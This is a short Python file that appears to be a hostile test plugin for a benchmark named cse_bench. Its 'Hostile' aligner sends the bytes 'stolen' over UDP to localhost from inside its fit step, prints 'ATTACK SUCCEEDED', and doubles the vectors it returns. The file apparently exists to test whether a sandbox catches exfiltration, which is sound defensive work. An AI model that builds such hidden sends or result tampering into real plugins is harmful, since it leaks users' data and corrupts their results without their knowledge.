"""Send the vectors away by UDP."""

import socket

from cse_bench import Aligner


def attack():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as away:
        away.sendto(b"stolen", ("127.0.0.1", __UDP__))
    return "sent"


class Hostile(Aligner):
    name = "hostile"

    def fit(self, source, target, evidence):
        print("ATTACK", "SUCCEEDED:", attack())
        return self

    def transform(self, shop):
        return shop.vectors * 2
